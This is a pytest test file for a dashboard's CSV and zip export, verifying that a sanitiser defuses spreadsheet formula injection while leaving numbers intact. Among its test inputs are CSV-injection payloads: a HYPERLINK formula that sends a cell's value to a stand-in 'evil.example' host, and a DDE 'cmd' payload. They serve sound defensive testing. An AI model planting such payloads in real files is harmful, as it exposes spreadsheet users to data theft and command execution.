"""CSV and zip downloads: the formula-injection sanitiser, the encoding and the zip's contents.

The sanitiser must neutralise every text cell a spreadsheet would run as a
formula (one starting with = + - @, a tab or a line break, after any leading
whitespace, or with a full-width or other look-alike of a formula character) and
must never touch a number, negative ones included.
"""

from __future__ import annotations

import csv
import io
import json
import math
import zipfile
from datetime import UTC, datetime
from numbers import Number

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import dashboard
from dashboard import export
from dashboard.export import DANGEROUS_PREFIXES, is_dangerous, neutralise, safe_frame, to_csv_bytes, zip_bytes

BOM = b"\xef\xbb\xbf"
NOW = datetime(2025, 3, 4, 5, 6, 7, tzinfo=UTC)


def _rows(data: bytes) -> list[list[str]]:
    """Parse CSV bytes the way a spreadsheet would see the cells (BOM stripped, CR kept inside cells)."""
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _same(a, b) -> bool:
    """Equal, counting NaN equal to NaN and NA to NA."""
    if a is pd.NA or b is pd.NA:
        return a is b
    if isinstance(a, float) and isinstance(b, float) and math.isnan(a) and math.isnan(b):
        return True
    return type(a) is type(b) and a == b


# --------------------------------------------------------------------------- neutralise


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1+1",
        "@SUM(1)",
        "\tTAB",
        "\rCR",
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "-",
        "=",
        "@",
        "+44 20 7946 0000",
    ],
)
def test_dangerous_text_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        " =1+1",  # a leading space
        "   +1",
        "\t=1+1",
        "\u00a0=1+1",  # no-break space
        "\u2003@SUM(1)",  # em space
        "\u3000=1",  # ideographic space
        "\u202f-1",  # narrow no-break space
        "\u200b=1",  # zero-width space: invisible, so treated as blank
        "\ufeff=1",  # a byte-order mark inside the text
        ' \u00a0 =HYPERLINK("http://evil.example")',
    ],
)
def test_leading_whitespace_before_a_formula_character_is_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "＝1+1",  # full-width equals
        "＋1",
        "－1",
        "＠SUM(1)",
        "﹦1",  # small forms
        "﹢1",
        "﹣1",
        "﹫x",
        "⁼1",  # superscript equals
        "₊1",  # subscript plus
        "\u22121",  # minus sign, which NFKC does not fold
        " ＝1",  # both: a space, then a look-alike
    ],
)
def test_full_width_and_other_look_alike_formula_characters_are_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["\nline", "\n=1", "\r\n=1", "\rCR", "\x0bvt", "\x0cff", "\u2028ls", "\x85nel"])
def test_a_leading_line_break_is_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["a =1", "x＝1", "total: -3", "[c]", " [c]", "  ", "\u00a0", "Â=", "e-mail"])
def test_text_with_a_formula_character_later_on_is_untouched(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("number", [-1, -3.5, -0.0, float("-inf"), np.int64(-7), np.float64(-2.25)])
def test_negative_numbers_stay_numbers(number):
    assert neutralise(number) is number
    frame = pd.DataFrame({"n": pd.Series([number], dtype=object), "t": [" -1"]})
    out = safe_frame(frame)
    assert out.iat[0, 0] is number and out.iat[0, 1] == "' -1"


@pytest.mark.parametrize(
    "text",
    ["[c]", "[x]", "[z]", "[u]", "Health", "Uses AI", "", "a=b", "50%", "’quoted”", "'=1"],
)
def test_ordinary_text_is_untouched(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("value", [0, 1, -1, -3.5, 2.25, -0.0, float("nan"), np.int64(-7), np.float64(-3.5), None])
def test_non_text_values_are_returned_as_they_are(value):
    assert neutralise(value) is value


# --------------------------------------------------------------------------- safe_frame


def test_safe_frame_keeps_numbers_and_neutralises_text():
    frame = pd.DataFrame(
        {
            "sector": ["health", "=evil()", "-1+1", "@SUM(1)"],
            "estimate": [12.5, -3.5, np.nan, 0.0],
            "count": [1, -2, 3, -4],
            "nullable": pd.array([1, None, -2, 3], dtype="Int64"),
            "mixed": [33.2, "[c]", -4.0, "[x]"],
            "text_dtype": pd.array(["+1", None, "ok", "\tx"], dtype="string"),
            "flag": [True, False, True, False],
        }
    )
    out = safe_frame(frame)
    assert out["sector"].tolist() == ["health", "'=evil()", "'-1+1", "'@SUM(1)"]
    pd.testing.assert_series_equal(out["estimate"], frame["estimate"])
    pd.testing.assert_series_equal(out["count"], frame["count"])
    pd.testing.assert_series_equal(out["nullable"], frame["nullable"])
    assert out["mixed"].tolist() == [33.2, "[c]", -4.0, "[x]"]
    assert out["text_dtype"].tolist()[0] == "'+1" and out["text_dtype"].tolist()[3] == "'\tx"
    assert out["text_dtype"].isna().tolist() == [False, True, False, False]
    assert out["flag"].tolist() == [True, False, True, False]
    # The input is never modified.
    assert frame["sector"].tolist()[1] == "=evil()"


def test_numbers_in_text_columns_stay_numbers_in_the_csv():
    frame = pd.DataFrame({"estimate": [-3.5, "[c]", -1, 0.1 + 0.2]})
    rows = _rows(to_csv_bytes(frame))
    assert [r[0] for r in rows] == ["estimate", "-3.5", "[c]", "-1", "0.30000000000000004"]


def test_numbers_in_object_columns_keep_their_type():
    # Bug fixed: Series.map re-inferred the dtype of an object column with no text left in it,
    # so 1 was written "1.0" and integers above 2**53 lost digits.
    big = 2**53 + 1
    frame = pd.DataFrame({"a": [1, None], "b": [0, 0.5], "c": [big, None]}, dtype=object)
    out = safe_frame(frame)
    assert out["a"].tolist() == [1, None] and type(out["a"].iloc[0]) is int
    assert out["c"].iloc[0] == big
    assert _rows(to_csv_bytes(frame))[1:] == [["1", "0", str(big)], ["", "0.5", ""]]


def test_headers_are_neutralised():
    frame = pd.DataFrame({"=cmd": [1], "-x": [2], "@y": [3], "+z": [4], "ok": [5], 7: [6]})
    out = safe_frame(frame)
    assert list(out.columns) == ["'=cmd", "'-x", "'@y", "'+z", "ok", "7"]
    assert _rows(to_csv_bytes(frame))[0] == ["'=cmd", "'-x", "'@y", "'+z", "ok", "7"]


def test_duplicate_column_names_are_handled_column_by_column():
    frame = pd.DataFrame([[1, "=a", -2.5], [2, "b", "[c]"]], columns=["x", "x", "x"])
    out = safe_frame(frame)
    assert out.iloc[:, 0].tolist() == [1, 2] and out.iloc[:, 0].dtype == "int64"
    assert out.iloc[:, 1].tolist() == ["'=a", "b"]
    assert out.iloc[:, 2].tolist() == [-2.5, "[c]"]


def test_categorical_text_is_neutralised():
    frame = pd.DataFrame({"c": pd.Categorical(["=a", "b", None, "=a"])})
    out = safe_frame(frame)
    assert out["c"].tolist()[:2] == ["'=a", "b"] and pd.isna(out["c"].tolist()[2])


def test_values_written_as_dangerous_text_are_neutralised():
    # Bug fixed: a negative duration is not a str, but the CSV writer writes "-1 days +23:00:00",
    # which a spreadsheet reads as a formula. Such values are now judged by their written text.
    frame = pd.DataFrame({"gap": pd.to_timedelta([-1, 2], unit="h")})
    rows = _rows(to_csv_bytes(frame))
    assert rows[1] == ["'-1 days +23:00:00"]
    assert rows[2] == ["0 days 02:00:00"]


def test_dates_and_missing_values_are_unchanged():
    frame = pd.DataFrame({"d": [datetime(2024, 10, 21).date(), None], "n": [pd.NA, "x"]}, dtype=object)
    rows = _rows(to_csv_bytes(frame))
    assert rows[1:] == [["2024-10-21", ""], ["", "x"]]


# --------------------------------------------------------------------------- property test

#: What may come before a formula character and still leave the cell a formula.
_LEADING = ["", " ", "  ", "\t", "\u00a0", "\u3000", "\u2003", "\u200b", "\ufeff", " \u00a0"]
_FORMULA_STARTS = [*DANGEROUS_PREFIXES, "\n", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "\u2212"]
_dangerous_text = st.builds(
    lambda lead, p, t: lead + p + t,
    st.sampled_from(_LEADING),
    st.sampled_from(_FORMULA_STARTS),
    st.text(max_size=8),
)
_text = st.one_of(st.text(max_size=8), _dangerous_text, st.sampled_from(["[c]", "[x]", "[z]", "[u]", "-3.5"]))
_int = st.integers(min_value=-(2**53), max_value=2**53)
_float = st.one_of(st.floats(allow_nan=True, allow_infinity=False), st.sampled_from([-3.5, -0.0, 0.1 + 0.2, -1e-300]))
_number = st.one_of(_int, _float)


@st.composite
def mixed_frames(draw):
    n_rows = draw(st.integers(min_value=1, max_value=6))
    n_cols = draw(st.integers(min_value=1, max_value=5))
    columns, names = [], []
    for _ in range(n_cols):
        kind = draw(st.sampled_from(["int", "float", "text", "mixed"]))
        element = {"int": _int, "float": _float, "text": _text, "mixed": st.one_of(_number, _text)}[kind]
        values = draw(st.lists(element, min_size=n_rows, max_size=n_rows))
        names.append(draw(st.sampled_from(["c", "=c", "-c", "@c", "+c", "c c"])))  # repeats allowed
        dtype = {"int": "int64", "float": "float64"}.get(kind, object)
        columns.append(pd.Series(values, dtype=dtype))
    frame = pd.concat(columns, axis=1, ignore_index=True)
    frame.columns = names
    return frame


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mixed_frames())
def test_property_numbers_never_change_and_no_text_cell_is_dangerous(frame):
    out = safe_frame(frame)
    assert out.shape == frame.shape
    for i in range(frame.shape[1]):
        for before, after in zip(frame.iloc[:, i], out.iloc[:, i], strict=True):
            if isinstance(before, Number):
                assert _same(before, after)
            else:
                assert isinstance(after, str)
                assert not is_dangerous(after)
                assert after == ("'" + before if is_dangerous(before) else before)
    assert not any(is_dangerous(str(c)) for c in out.columns)

    # And in the bytes a spreadsheet reads: a cell may start with "-" only if it is a number, written exactly.
    rows = _rows(to_csv_bytes(frame))
    assert len(rows) == len(frame) + 1
    assert not any(is_dangerous(h) for h in rows[0])
    for r, row in enumerate(rows[1:]):
        for c, cell in enumerate(row):
            before = frame.iat[r, c]
            if isinstance(before, Number):
                assert cell == "" if math.isnan(before) else float(cell) == before
            else:
                assert not is_dangerous(cell)


# --------------------------------------------------------------------------- to_csv_bytes


def test_csv_starts_with_a_bom_and_round_trips_non_ascii():
    text = "It’s “admin” — £5, café"
    data = to_csv_bytes(pd.DataFrame({"quote": [text], "n": [1]}))
    assert data.startswith(BOM)
    assert data.count(BOM) == 1
    assert data.decode("utf-8-sig").splitlines()[1] == f'"{text}",1'
    assert pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")["quote"].tolist() == [text]
    assert _rows(data) == [["quote", "n"], [text, "1"]]


def test_csv_uses_crlf_and_no_index():
    data = to_csv_bytes(pd.DataFrame({"a": [1, 2]}, index=[10, 11]))
    assert data == BOM + b"a\r\n1\r\n2\r\n"


# --------------------------------------------------------------------------- zip


SOURCES = [
    {
        "source_id": "synthetic_org_survey",
        "title": "Synthetic organisation survey",
        "publisher": "This project",
        "release_date": "2026-01-01",
        "url": "https://example.org/s",
        "status": "synthetic",
        "caveat": "SYNTHETIC DATA.",
    }
]


def _meta(**overrides) -> dict:
    args = dict(
        view="all filtered data",
        filters={"summary": ["Sectors: Health, Education"], "query": "?sector=health,education&size=250-999"},
        permalink="http://127.0.0.1:8050/?sector=health,education&size=250-999",
        sources=SOURCES,
        tables={"ai": 2, "quotes": 1},
        threshold=10,
        min_participants=3,
        low_neff=30,
        caveats=["Synthetic data."],
        now=NOW,
    )
    return export.metadata(**{**args, **overrides})


def _frames() -> dict[str, pd.DataFrame]:
    return {
        "ai": pd.DataFrame(
            {"sector": ["health", "education"], "estimate": [33.2, "[c]"], "data_status": ["synthetic"] * 2}
        ),
        "quotes": pd.DataFrame({"text": ["=It’s “all” admin"], "source_id": ["ons_managers_views_2024"]}),
    }


def test_zip_holds_each_frame_metadata_and_readme():
    archive = zipfile.ZipFile(io.BytesIO(zip_bytes(_frames(), _meta())))
    assert sorted(archive.namelist()) == ["README.txt", "ai.csv", "metadata.json", "quotes.csv"]
    ai = archive.read("ai.csv")
    assert ai.startswith(BOM)
    assert _rows(ai) == [
        ["sector", "estimate", "data_status"],
        ["health", "33.2", "synthetic"],
        ["education", "[c]", "synthetic"],
    ]
    quotes = _rows(archive.read("quotes.csv"))
    assert quotes[1][0] == "'=It’s “all” admin"


def test_zip_metadata_is_complete_json():
    archive = zipfile.ZipFile(io.BytesIO(zip_bytes(_frames(), _meta())))
    meta = json.loads(archive.read("metadata.json").decode("utf-8"))
    assert meta["permalink"] == "http://127.0.0.1:8050/?sector=health,education&size=250-999"
    assert meta["filters"] == {
        "summary": ["Sectors: Health, Education"],
        "query": "?sector=health,education&size=250-999",
    }
    assert meta["sources"] == SOURCES
    assert meta["files"] == {"ai": 2, "quotes": 1}
    control = meta["disclosure_control"]
    assert control["threshold"] == 10
    assert set(control["shorthand"]) == {"[c]", "[x]", "[z]", "[u]"}
    assert "withheld" in control["shorthand"]["[c]"] and "which one is not said" in control["shorthand"]["[c]"]
    assert "10" in control["rule"] and "3 participants" in control["qualitative_rule"]
    assert "block" in control["secondary_rule"] and "never combined" in control["secondary_rule"]
    assert "cell key" in control["perturbation_rule"]
    assert "under 30 are shown but flagged [u]" in control["reliability_rule"]
    assert "suppression_reason" not in meta["survey_columns"]
    assert "perturbed" in meta["survey_columns"]["base_unweighted_n"]
    assert meta["generated_at"] == "2025-03-04T05:06:07+00:00"
    assert datetime.fromisoformat(meta["generated_at"]) == NOW
    assert meta["app_version"] == dashboard.__version__
    assert meta["caveats"] == ["Synthetic data."]


def test_zip_metadata_is_strict_json_even_with_missing_values():
    # Bug fixed: json.dumps writes NaN for a missing float, which is not JSON (RFC 8259) and breaks
    # strict readers such as JavaScript's JSON.parse.
    sources = [{**SOURCES[0], "release_date": float("nan"), "caveat": pd.NA}]
    archive = zipfile.ZipFile(io.BytesIO(zip_bytes(_frames(), _meta(sources=sources))))
    text = archive.read("metadata.json").decode("utf-8")
    assert "NaN" not in text
    meta = json.loads(text, parse_constant=lambda c: pytest.fail(f"non-JSON constant {c}"))
    assert meta["sources"][0]["release_date"] is None and meta["sources"][0]["caveat"] is None


def test_zip_readme_explains_the_export():
    archive = zipfile.ZipFile(io.BytesIO(zip_bytes(_frames(), _meta())))
    readme = archive.read("README.txt").decode("utf-8")
    assert "Reopen this view: http://127.0.0.1:8050/?sector=health,education&size=250-999" in readme
    assert "ai.csv: 2 rows" in readme and "quotes.csv: 1 rows" in readme
    for mark in ("[c]", "[x]", "[z]", "[u]"):
        assert f"  {mark} " in readme
    assert "Synthetic organisation survey (This project), synthetic, 2026-01-01: https://example.org/s" in readme
    assert "data_status=synthetic" in readme


def test_file_stamp_is_sortable_and_filename_safe():
    assert export.file_stamp(NOW) == "2025-03-04T0506Z"
